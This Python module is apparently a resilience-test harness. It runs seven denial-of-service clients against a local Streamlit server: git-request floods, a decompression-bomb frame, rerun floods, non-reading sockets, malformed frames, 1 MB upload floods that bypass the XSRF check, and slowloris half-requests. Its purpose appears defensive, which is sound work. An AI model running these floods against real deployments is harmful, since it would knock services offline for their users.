"""Hostile clients on the loopback address, from an address of their own: each stops when it is told to.

An attack is a coroutine `name(port, stop)`. It goes on, reconnecting when it is thrown out, until the event is set.
"""

import asyncio
import http.client
import os
import re
import socket
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from typing import Any

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import InvalidHandshake, WebSocketException

ADDRESS = "127.0.0.2"  # of the hostile clients; honest ones are at 127.0.0.1
NAMES = 450_000  # of files, all empty: 900 KB, which deflate to 911 bytes
RERUNS = 1000  # a second on one socket
IDLE_READERS = 12  # sockets that are never read from
REFUSED = (OSError, WebSocketException, InvalidHandshake, EOFError, TimeoutError)

Attack = Callable[[int, asyncio.Event], Awaitable[None]]


@asynccontextmanager
async def hostile_socket(port: int, **options: Any) -> AsyncIterator[ClientConnection]:
    """A websocket from ADDRESS, as a browser opens one."""
    given: dict[str, Any] = {"max_size": None, "proxy": None, "local_addr": (ADDRESS, 0), "ping_interval": None}
    address = f"ws://127.0.0.1:{port}/_stcore/stream"
    async with connect(address, subprotocols=["streamlit"], **given | options) as opened:  # type: ignore[list-item]
        try:
            yield opened
        finally:
            opened.transport.abort()  # without waiting for an answer to its goodbye


async def send_all(port: int, message: bytes, count: int, pause: float = 0.0) -> int:
    """Send a message so many times over one socket, and let the answers go; how many were taken before it closed."""
    sent = 0
    with suppress(*REFUSED):
        async with hostile_socket(port) as opened:
            reader = asyncio.create_task(drop_answers(opened))
            for sent in range(count):  # noqa: B007
                await opened.send(message)
                await asyncio.sleep(pause)
            reader.cancel()
    return sent


async def drop_answers(opened: ClientConnection) -> None:
    """Read what comes and forget it."""
    with suppress(*REFUSED):
        async for _ in opened:
            pass


def rerun(**fields: Any) -> bytes:
    """The order to run the page."""
    order = BackMsg()
    order.rerun_script.query_string = ""
    for name, value in fields.items():
        setattr(order.rerun_script, name, value)
    return order.SerializeToString()


def many_names(count: int = NAMES) -> bytes:
    """A request for the addresses of so many files without a name."""
    order = BackMsg()
    order.file_urls_request.request_id = "all"
    order.file_urls_request.file_names.extend([""] * count)
    return order.SerializeToString()


async def repeat(step: Callable[[], Awaitable[object]], stop: asyncio.Event) -> None:
    """Do something again and again until it is time to stop."""
    stopped = asyncio.create_task(stop.wait())
    while not stop.is_set():
        doing = asyncio.ensure_future(step())
        await asyncio.wait([doing, stopped], return_when=asyncio.FIRST_COMPLETED)
        if not doing.done():
            doing.cancel()
        with suppress(asyncio.CancelledError, *REFUSED):
            await doing
        await asyncio.sleep(0.01)


# ---------------------------------------------------------------------------------------------------- websockets


async def git_questions(port: int, stop: asyncio.Event) -> None:
    """Frames of 2 bytes, for each of which Streamlit starts git."""
    await repeat(lambda: send_all(port, BackMsg(load_git_info=True).SerializeToString(), 2000), stop)


async def inflated_names(port: int, stop: asyncio.Event) -> None:
    """Frames of 911 bytes that inflate to a request for 450,000 addresses."""
    await repeat(lambda: send_all(port, many_names(), 5), stop)


async def reruns(port: int, stop: asyncio.Event) -> None:
    """A thousand runs of the page a second on one socket."""
    await repeat(lambda: send_all(port, rerun(), 100_000, 1 / RERUNS), stop)


async def idle_readers(port: int, stop: asyncio.Event) -> None:
    """Sockets that ask for the page again and again and read nothing of it."""

    async def never_read() -> None:
        async with hostile_socket(port, compression=None, max_queue=1) as opened:
            opened.transport.pause_reading()
            while True:
                await opened.send(rerun())
                await asyncio.sleep(0.02)

    await asyncio.gather(*(repeat(never_read, stop) for _ in range(IDLE_READERS)))


async def malformed(port: int, stop: asyncio.Event) -> None:
    """Messages that are none, each on a new socket."""
    await repeat(lambda: send_all(port, b"\xff\xff\xff", 1), stop)


# ---------------------------------------------------------------------------------------------------- over HTTP


def ask(port: int, method: str, path: str, body: bytes = b"", **headers: str) -> http.client.HTTPResponse:
    """One answer over HTTP to a client at ADDRESS; its body has been read."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30, source_address=(ADDRESS, 0))
    try:
        connection.request(method, path, body or None, headers)
        answer = connection.getresponse()
        answer.read()
        return answer
    finally:
        connection.close()


async def session_of(opened: ClientConnection) -> str:
    """The session that the server gives a websocket."""
    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

    await opened.send(rerun())
    while True:
        message = ForwardMsg.FromString(await opened.recv())  # type: ignore[arg-type]
        if message.WhichOneof("type") == "new_session":
            return message.new_session.initialize.session_id


def upload(port: int, session: str, name: str, size: int) -> int:
    """Put a file of so many bytes into a session; the status of the answer."""
    given = ask(port, "GET", "/_stcore/health").getheader("Set-Cookie") or ""
    found = re.search(r"_streamlit_xsrf=([^;]+)", given)
    token = found[1] if found else ""
    body = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + bytes(size) + b"\r\n--x--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=x", "X-Xsrftoken": token}
    headers["Cookie"] = f"_streamlit_xsrf={token}"
    return ask(port, "PUT", f"/_stcore/upload_file/{session}/{name}", body, **headers).status


async def uploads(port: int, stop: asyncio.Event) -> None:
    """Files of 1 MB into one session, as fast as they are taken."""

    async def fill() -> None:
        async with hostile_socket(port) as opened:
            session = await session_of(opened)
            reader = asyncio.create_task(drop_answers(opened))
            for number in range(300):
                await asyncio.to_thread(upload, port, session, f"file-{number}", 2**20 - 200)
            reader.cancel()

    await repeat(fill, stop)


async def half_requests(port: int, stop: asyncio.Event) -> None:
    """Connections that send half of a request and then nothing."""
    held: list[socket.socket] = []
    try:
        while not stop.is_set():
            with suppress(OSError):
                if len(held) < 500:
                    held.append(socket.create_connection(("127.0.0.1", port), 5, (ADDRESS, 0)))
                    held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a\r\n")
            await asyncio.sleep(0.005)
    finally:
        for one in held:
            one.close()


ATTACKS: dict[str, Attack] = {
    "git_questions": git_questions,
    "inflated_names": inflated_names,
    "reruns": reruns,
    "idle_readers": idle_readers,
    "malformed": malformed,
    "uploads": uploads,
    "half_requests": half_requests,
}


def main(name: str, port: str) -> None:
    """Attack from a process of its own until it is ended, at low priority: what is measured is what the server does."""
    if hasattr(os, "nice"):
        os.nice(19)
    asyncio.run(ATTACKS[name](int(port), asyncio.Event()))  # type: ignore[arg-type]


if __name__ == "__main__":
    main(*sys.argv[1:])
